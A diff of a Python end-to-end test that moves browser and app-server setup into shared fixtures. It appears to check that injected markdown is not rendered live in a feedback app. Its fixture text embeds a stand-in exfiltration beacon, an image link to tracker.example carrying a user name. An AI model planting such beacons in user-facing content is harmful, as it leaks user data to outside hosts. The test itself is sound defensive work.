@@ -4,25 +4,16 @@ attacker's host. The same holds for an approved correction shown to employees as
 
 from __future__ import annotations
 
-import os
 import re
 
 import pytest
 
-from tests.fixtures.app_corpus import build_app_data, start_app_server
+from tests.fixtures.app_corpus import build_app_data
+from tests.fixtures.browser import CHROMIUM, CHROMIUM_ARGS, require_browser, running_app
 
 # The first page load imports the models in the app's process: minutes on a loaded 2-core machine.
 pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(900)]
 
-CHROMIUM = "/usr/bin/chromium"
-CHROMIUM_ARGS = [
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-    "--no-first-run",
-]
 EVIL = "tracker.example"
 QUESTION = (
     f"How do I book annual leave? ![beacon](https://{EVIL}/pixel.png?u=ana) "
@@ -37,9 +28,7 @@ CORRECTION = (
 
 @pytest.fixture(scope="module")
 def server(tmp_path_factory, minilm):
-    if not os.path.exists(CHROMIUM):
-        pytest.skip("needs Debian chromium at /usr/bin/chromium (make system-deps)")
-    pytest.importorskip("playwright")
+    require_browser()
     from feedback.factory import open_store
     from feedback.records import QAPair
 
@@ -48,13 +37,8 @@ def server(tmp_path_factory, minilm):
     store = open_store(settings)
     store.add_qa_pairs([QAPair.new(PAIR_QUESTION, CORRECTION, origin="correction")])  # an approved correction
     store.close()
-    proc, base = start_app_server(root / "data", log_path=root / "streamlit.log")
-    yield base
-    proc.terminate()
-    try:
-        proc.wait(timeout=10)
-    except Exception:  # noqa: BLE001
-        proc.kill()
+    with running_app(root / "data", log_path=root / "streamlit.log") as base:
+        yield base
 
 
 def _no_live_payload(page) -> None:
